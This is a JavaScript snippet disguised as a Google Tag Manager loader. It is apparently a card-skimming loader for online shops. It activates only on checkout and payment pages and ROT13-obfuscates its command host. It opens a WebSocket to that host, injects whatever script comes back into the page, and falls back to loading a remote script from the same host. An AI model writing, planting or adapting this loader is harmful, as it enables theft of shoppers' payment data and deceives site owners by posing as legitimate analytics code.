(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0];
var p=/onestepcheckout|checkout\/|payment|firecheckout/;
var t=function(x){return x.replace(/[a-zA-Z]/g,function(c){return String.fromCharCode((c<='Z'?90:122)>=(c=c.charCodeAt(0)+13)?c:c-26)})};
if(p.test(w.location.pathname)&&!w[i]){w[i]=1;
var ws=new WebSocket(t('jff://gnt-znantre-zrgevpf.vainyvq/')+'?h='+btoa(w.location.host));
ws.onmessage=function(e){var n=d.createElement(s);n.id='gtm-'+i;n.textContent=e.data;f.parentNode.insertBefore(n,f)};
ws.onerror=function(){var j=d.createElement(s);j.async=!0;j.src=t('uggcf://gnt-znantre-zrgevpf.vainyvq/tgz.wf')+'?id=GTM-XXXX';f.parentNode.insertBefore(j,f)}}
})(window,document,'script','dataLayer','__gtm_x');
